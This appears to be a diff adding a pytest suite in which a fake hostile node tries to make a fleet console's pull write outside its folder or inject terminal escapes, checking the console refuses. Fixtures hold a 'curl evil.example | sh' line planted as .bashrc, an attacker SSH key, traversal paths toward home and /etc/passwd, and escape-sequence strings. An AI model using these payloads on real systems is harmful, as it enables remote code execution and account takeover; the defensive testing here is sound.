@@ -1,0 +1,305 @@
+"""Hostile node answers: a node that lies in its snapshot or its manifest, over the real sshd.
+
+The node here is a fake `fleetdeck-agent` (the fleet file's `agent` command) that answers
+JSON-RPC from a scenario file: a run named `../../home/op`, file names with terminal escapes,
+a manifest pointing outside the run directory. The files it names are real files in a real
+RUN_DIR, so the pull's data path (OpenSSH's sftp or asyncssh) really fetches them. Each row
+drives the real `fleetdeck` CLI and asserts the exit code, the message, no traceback, nothing
+written outside the pull's own folder (a watched fake HOME above all) and no finished work
+lost."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import re
+import sys
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.console.data import generate_snapshot
+from tests.hostile.conftest import Outcome, assert_only_changed, assert_refused, run_cli, tree
+from tests.servers.sshd import SshServer
+
+# The fake agent: `python FAKE SCENARIO serve RUN_DIR --stdio`. It answers each request from
+# the scenario's `answers` (a result) or `errors` (a JSON-RPC error); `raw` lines are written
+# as they are (not JSON, say). Anything else is "method not found".
+FAKE_AGENT = r'''
+import json, sys
+scenario = json.load(open(sys.argv[1]))
+out = sys.stdout.buffer
+for line in sys.stdin.buffer:
+    req = json.loads(line)
+    rid, method = req.get("id"), req.get("method")
+    if rid is None:
+        continue
+    if method in scenario.get("raw", {}):
+        out.write(scenario["raw"][method].encode("utf-8", "surrogateescape") + b"\n")
+    elif method in scenario.get("errors", {}):
+        out.write(json.dumps({"jsonrpc": "2.0", "id": rid,
+                              "error": scenario["errors"][method]}).encode() + b"\n")
+    elif method in scenario.get("answers", {}):
+        out.write(json.dumps({"jsonrpc": "2.0", "id": rid,
+                              "result": scenario["answers"][method]}).encode() + b"\n")
+    else:
+        out.write(json.dumps({"jsonrpc": "2.0", "id": rid, "error": {
+            "code": -32601, "message": "unknown method " + repr(method)}}).encode() + b"\n")
+    out.flush()
+'''
+
+HELLO = {"protocol": 1, "agent_version": "0.1.0", "host": "node", "run_dir": "/x",
+         "supervised": False}
+
+
+def entry(path: str, data: bytes, **kw: Any) -> dict[str, Any]:
+    e = {"path": path, "kind": "other", "size": len(data), "mtime": 0.0, "mtime_ns": 0,
+         "sha256": hashlib.sha256(data).hexdigest(), "sha256_from": "read", "in_s3": False,
+         "refused": None}
+    e.update(kw)
+    return e
+
+
+def page(*entries: dict[str, Any]) -> dict[str, Any]:
+    return {"entries": list(entries), "total": len(entries), "next_offset": None}
+
+
+@dataclass
+class HostileNode:
+    """A fleet file whose node `gen-1` is the fake agent over the real sshd, a RUN_DIR the
+    node's files live in, and a fake HOME (the operator's) that must stay as it is."""
+
+    fleet: Path
+    run_dir: Path
+    pulls: Path
+    home: Path  # HOME for the console: the operator's own files
+    watched: Path  # everything the console must not write to (HOME's parent folder)
+    scenario: Path
+
+    def answer(self, answers: dict[str, Any] | None = None, **extra: Any) -> None:
+        body = {"answers": {"hello": HELLO, **(answers or {})}, **extra}
+        self.scenario.write_text(json.dumps(body))
+
+    def put(self, rel: str, data: bytes) -> bytes:
+        path = self.run_dir / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(data)
+        return data
+
+    def fleetdeck(self, *args: str) -> Outcome:
+        return run_cli("fleetdeck", "--fleet", self.fleet, *args,
+                       env={"HOME": str(self.home)}, timeout=120)
+
+
+@pytest.fixture
+def node(sshd: SshServer, tmp_path: Path, home: Path) -> HostileNode:
+    # The operator is HOME = <home>/op, so the pull folder <tmp>/pulls with node gen-1 and a
+    # run named ../../home/op lands exactly on it: <tmp>/pulls/gen-1/../../home/op.
+    op = home / "op"
+    (op / ".ssh").mkdir(parents=True)
+    (op / ".bashrc").write_text("# the operator's own\n")
+    run_dir = tmp_path / "node-run"
+    run_dir.mkdir()
+    script = tmp_path / "fake_agent.py"
+    script.write_text(FAKE_AGENT)
+    scenario = tmp_path / "scenario.json"
+    fleet = tmp_path / "fleet.toml"
+    pulls = tmp_path / "pulls"
+    fleet.write_text("\n".join([
+        "[console]", f'pull_dir = "{pulls}"', "", "[[nodes]]", 'name = "gen-1"',
+        'host = "127.0.0.1"', f"port = {sshd.port}", f'user = "{sshd.user}"',
+        f'identity_file = "{sshd.client_key}"', f'known_hosts = "{sshd.known_hosts}"',
+        f'run_dir = "{run_dir}"', f'agent = "{sys.executable} {script} {scenario}"',
+        "connect_timeout_s = 5", ""]))
+    n = HostileNode(fleet, run_dir, pulls, op, home, scenario)
+    n.answer()
+    return n
+
+
+def snapshot(**kw: Any) -> dict[str, Any]:
+    return generate_snapshot(**{"status": "done", "source": "disk", "servers": [],
+                                "alerts": [], **kw})
+
+
+def no_escape(out: Outcome) -> None:
+    """What the node sent reached the terminal escaped, never as control characters (the
+    progress line's own carriage returns aside)."""
+    text = re.sub(r"\r(?=\d+/\d+ files)", "", out.text)
+    for ch in ("\x1b", "\x07", "\x9b", "\r"):
+        assert ch not in text, f"{ch!r} reached the terminal:\n{text!r}"
+
+
+# -- the run name: where pull puts the files ---------------------------------------------------
+
+def _dotfiles(n: HostileNode) -> list[dict[str, Any]]:
+    return [entry(".bashrc", n.put(".bashrc", b"curl evil.example | sh\n")),
+            entry(".ssh/authorized_keys", n.put(".ssh/authorized_keys",
+                                                b"ssh-ed25519 AAAA attacker\n"))]
+
+
+RUN_NAMES = [
+    pytest.param("../../home/op", id="run-dotdot-into-home"),
+    pytest.param("..", id="run-dotdot"),
+    pytest.param(".", id="run-dot"),
+    pytest.param("", id="run-empty"),
+    pytest.param("/tmp/elsewhere", id="run-absolute"),
+    pytest.param("a/../../..", id="run-slash"),
+    pytest.param("run\x1b]0;owned\x07", id="run-terminal-escape"),
+    pytest.param("run\nname", id="run-newline"),
+]
+
+
+@pytest.mark.parametrize("run", RUN_NAMES)
+def test_pull_never_leaves_the_pull_dir_whatever_the_run_is_called(node: HostileNode,
+                                                                    run: str) -> None:
+    """Issue 11 item 1: a run named ../../home/op made pull overwrite ~/.bashrc and create
+    ~/.ssh/authorized_keys, then exit 0."""
+    node.answer({"status": snapshot(run=run), "manifest": page(*_dotfiles(node))})
+    before = tree(node.watched)
+    out = node.fleetdeck("pull", "gen-1")
+    assert_refused(out, 2, ["gen-1", "run name"])
+    no_escape(out)
+    assert_only_changed(before, tree(node.watched))
+    assert (node.home / ".bashrc").read_text() == "# the operator's own\n"
+    assert not (node.home / ".ssh" / "authorized_keys").exists()
+    assert not node.pulls.exists() or not any(node.pulls.rglob("*")), \
+        sorted(map(str, node.pulls.rglob("*")))
+
+
+@pytest.mark.parametrize("run", ["../../home/op", "run\x1b[2J"])
+def test_decommission_check_refuses_a_run_name_that_leaves_the_pull_dir(node: HostileNode,
+                                                                        run: str) -> None:
+    node.answer({"status": snapshot(run=run), "manifest": page(*_dotfiles(node)),
+                 "verify": {"ok": True, "problems": []}})
+    before = tree(node.watched)
+    out = node.fleetdeck("decommission-check", "gen-1")
+    assert_refused(out, 2, ["gen-1", "run name"])
+    no_escape(out)
+    assert "SAFE" not in out.text
+    assert_only_changed(before, tree(node.watched))
+
+
+# -- the manifest: which files pull writes -----------------------------------------------------
+
+MANIFEST_PATHS = [
+    pytest.param("../../../home/op/.bashrc", id="manifest-dotdot"),
+    pytest.param("/etc/passwd", id="manifest-absolute"),
+    pytest.param(".fleetdeck/manifest.json", id="manifest-pull-state"),
+    pytest.param("logs/../../../../home/op/.bashrc", id="manifest-dotdot-inside"),
+]
+
+
+@pytest.mark.parametrize("bad", MANIFEST_PATHS)
+def test_a_manifest_pointing_outside_is_refused_file_by_file(node: HostileNode,
+                                                             bad: str) -> None:
+    good = node.put("progress.json", b'{"completed": 3}\n')
+    evil = b"curl evil.example | sh\n"
+    if not bad.startswith(("/", "..")) and "/../" not in bad:
+        node.put(bad, evil)  # there on the node: only the console's refusal keeps it out
+    node.answer({"status": snapshot(run="fine"),
+                 "manifest": page(entry("progress.json", good), entry(bad, evil))})
+    before = tree(node.watched)
+    out = node.fleetdeck("pull", "gen-1")
+    assert_refused(out, 1, [bad, "refused"])
+    assert_only_changed(before, tree(node.watched), allowed=["pulls/gen-1/fine/"])
+    dest = node.pulls / "gen-1" / "fine"
+    assert (dest / "progress.json").read_bytes() == good  # the honest file still came
+    assert json.loads((dest / ".fleetdeck" / "manifest.json").read_text())[0]["path"] \
+        == "progress.json"  # the console's own record was not overwritten
+    assert (node.home / ".bashrc").read_text() == "# the operator's own\n"
+
+
+def test_a_symlink_planted_in_the_pull_dir_is_not_followed(node: HostileNode) -> None:
+    """The destination is resolved before writing: a folder of the pull that is a symlink
+    out (planted by someone, or left by a tool) is not written through."""
+    data = node.put("logs/x.log", b"a log\n")
+    node.answer({"status": snapshot(run="fine"), "manifest": page(entry("logs/x.log", data))})
+    dest = node.pulls / "gen-1" / "fine"
+    dest.mkdir(parents=True)
+    (dest / "logs").symlink_to(node.home)
+    before = tree(node.watched)
+    out = node.fleetdeck("pull", "gen-1")
+    assert_refused(out, 1, ["logs/x.log", "outside"])
+    assert_only_changed(before, tree(node.watched))
+    assert not (node.home / "x.log").exists()
+
+
+# -- answers that are not what they claim ------------------------------------------------------
+
+BROKEN_ANSWERS: list[Any] = [
+    pytest.param({"answers": {"status": {"run": 5, "status": "done"}}}, 2, ["run name"],
+                 id="status-run-not-a-string"),
+    pytest.param({"answers": {"status": "nothing"}}, 2, ["status"], id="status-not-an-object"),
+    pytest.param({"answers": {"status": None}}, 2, ["status"], id="status-null"),
+    pytest.param({"answers": {"manifest": {"entries": "all of them"}}}, 2, ["manifest"],
+                 id="manifest-not-a-page"),
+    pytest.param({"answers": {"manifest": {"entries": [], "total": 9, "next_offset": 0}}}, 2,
+                 ["manifest"], id="manifest-pages-forever"),
+    pytest.param({"answers": {"manifest": page({**entry("a", b"x"), "size": -5})}}, 2,
+                 ["manifest", "size"], id="manifest-negative-size"),
+    pytest.param({"answers": {"manifest": page({**entry("a", b"x"), "sha256": "../../x"})}},
+                 2, ["manifest", "sha256"], id="manifest-sha-not-hex"),
+    pytest.param({"errors": {"manifest": {"code": -32002, "message": "cannot list"}}}, 3,
+                 ["cannot list"], id="manifest-refused"),
+]
+
+
+@pytest.mark.parametrize(("scenario", "code", "names"), BROKEN_ANSWERS)
+def test_a_broken_answer_is_named_never_a_traceback(node: HostileNode, scenario: dict[str, Any],
+                                                    code: int, names: list[str]) -> None:
+    answers = {"status": snapshot(run="fine"), "manifest": page()}
+    answers.update(scenario.pop("answers", {}))
+    node.answer(answers, **scenario)
+    before = tree(node.watched)
+    out = node.fleetdeck("pull", "gen-1")
+    assert_refused(out, code, ["gen-1", *names])
+    assert_only_changed(before, tree(node.watched), allowed=["pulls/gen-1/fine/"])
+
+
+# -- names shown on the terminal --------------------------------------------------------------
+
+ESCAPES = "\x1b]0;pwned\x07\x1b[2J\r\x9b31m"
+
+SHOWN: list[Any] = [
+    pytest.param(lambda n: {"status": snapshot(run="r" + ESCAPES)}, ["status"],
+                 id="status-run-name"),
+    pytest.param(lambda n: {"status": snapshot(
+        run="fine", alerts=[{"code": "x", "severity": "warning", "message": "m" + ESCAPES,
+                             "since": 0.0}])}, ["status"], id="status-alert-message"),
+    pytest.param(lambda n: {"status": snapshot(run="fine"),
+                            "manifest": page(entry("gone" + ESCAPES, b"x"))},
+                 ["pull", "gen-1"], id="pull-failed-file-name"),
+    pytest.param(lambda n: {"status": snapshot(run="fine"), "verify": {"ok": True},
+                            "manifest": page(entry("x" + ESCAPES, b"", sha256=None,
+                                                   refused="symlink"))},
+                 ["decommission-check", "gen-1"], id="gate-refused-file-name"),
+    pytest.param(lambda n: {"status": snapshot(run="fine")},
+                 ["logs", "gen-1"], id="logs-error-message"),
+]
+
+
+@pytest.mark.parametrize(("answers", "args"), SHOWN)
+def test_names_from_the_node_reach_the_terminal_escaped(
+        node: HostileNode, answers: Callable[[HostileNode], dict[str, Any]],
+        args: list[str]) -> None:
+    node.answer(answers(node), errors={"logs": {"code": -32002, "message": "no log " + ESCAPES}})
+    before = tree(node.watched)
+    out = node.fleetdeck(*args)
+    assert "Traceback" not in out.text, out.text
+    no_escape(out)
+    assert "\\x1b" in out.text, out.text  # shown, escaped: the user still sees it is odd
+    assert_only_changed(before, tree(node.watched), allowed=["pulls/gen-1/fine/"])
+
+
+def test_the_hostile_node_fixture_can_fail(node: HostileNode) -> None:
+    """The judge itself: an honest pull from the fake node writes where it should."""
+    data = node.put("logs/a.log", b"honest\n")
+    node.answer({"status": snapshot(run="fine"), "manifest": page(entry("logs/a.log", data))})
+    out = node.fleetdeck("pull", "gen-1")
+    assert out.code == 0, out.text
+    assert (node.pulls / "gen-1" / "fine" / "logs" / "a.log").read_bytes() == data
+    assert os.path.isfile(node.pulls / "gen-1" / "fine" / ".fleetdeck" / "manifest.json")
